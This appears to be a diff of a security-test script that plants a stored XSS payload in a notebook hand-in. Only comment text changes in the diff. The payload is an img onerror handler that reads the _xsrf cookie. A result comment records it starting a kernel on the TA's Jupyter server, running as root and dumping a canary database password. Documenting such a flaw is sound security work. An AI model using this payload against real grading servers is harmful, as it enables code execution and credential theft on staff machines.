@@ -25,7 +25,7 @@ JS = ("(async()=>{const c=document.cookie.split('; ').find(s=>s.startsWith('_xsr
 ANSWER = "My answer: ...\n\n" + f'<img src="data:," style="display:none" onerror="{JS}">\n'
 
 if __name__ == "__main__":
-    if "--fresh" in sys.argv:       # end to end: the payload in the hand-in, graded by tools.grade as root
+    if "--fresh" in sys.argv:       # end to end: the payload in the hand-in, graded by grader.grade as root
         from monitor import grade_watched
         dest = ac.make_course("r9-a07", {"xss": ac.notebook({"written_ddp_fit": ANSWER})})
         grade_watched(dest)
@@ -56,7 +56,7 @@ if __name__ == "__main__":
     if os.path.exists(OUT):
         print(open(OUT).read())
 # RESULT (root, 13:11 UTC a07.out.txt reusing a06's course; 13:14 UTC a07-fresh.out.txt end to end: the payload in the
-# hand-in, graded by tools.grade as root, then the TA's formgrader page): BROKEN. The TA opening the submission in
+# hand-in, graded by grader.grade as root, then the TA's formgrader page): BROKEN. The TA opening the submission in
 # Formgrader ran the hand-in's JavaScript, which started a kernel on the TA's Jupyter server and ran Python there:
 #   id: uid=0(root) gid=0(root) groups=0(root)
 #   DATABASE_URL=postgresql://ta:CANARY-PASSWORD-r9a07@localhost/x
